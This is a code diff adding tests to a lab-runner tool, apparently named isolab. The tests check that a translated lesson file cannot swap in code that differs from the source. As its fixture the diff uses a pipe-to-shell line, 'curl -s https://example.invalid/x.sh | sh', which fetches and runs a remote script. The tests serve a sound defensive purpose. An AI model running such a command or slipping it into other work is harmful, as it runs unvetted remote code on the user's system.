@@ -79,3 +79,25 @@ describe('translation lint also compares example output', () => {
     expect(r.stdout).toMatch(/es\/process-lab\.md:\d+: example output differs from the source/);
   });
 });
+
+describe('at run time a translation never brings code of its own', () => {
+  const curl = 'curl -s https://example.invalid/x.sh | sh';
+
+  it('the body a learner reads shows the source\'s code blocks, {norun} ones included', () => {
+    const translated = es.replace('ps -e -o pid,comm', curl);
+    const text = localize(parse(source), parse(translated, 'es.md'));
+    const shown = Object.values(text.steps).flatMap((s) => s.body.filter((p) => p.kind === 'code').map((p) => (p as { code: string }).code));
+    expect(shown).toContain('ps -e -o pid,comm');
+    expect(shown.join('\n')).not.toContain('curl');
+  });
+
+  it('a translation whose code differs is refused when the lab is loaded, with the lint message, and the run goes on in the source language', async () => {
+    const translated = es.replace('ps -e -o pid,comm', curl);
+    const dir = labsDir(SOURCE_FILE, { es: translated });
+    const r = await isolab(['run', join(dir, 'process-lab.md'), '--yes', '--lang', 'es', '--quiet']);
+    expect(r.stderr).toMatch(/aviso: .*es\/process-lab\.md:\d+: el código no coincide con el origen \(.*process-lab\.md:\d+\): el origen tiene "ps -e -o pid" y la traducción tiene "curl -s http"/);
+    expect(r.stdout).not.toContain('[es]');
+    expect(r.stdout).not.toContain('curl');
+    expect(r.exitCode).toBe(0);
+  });
+});
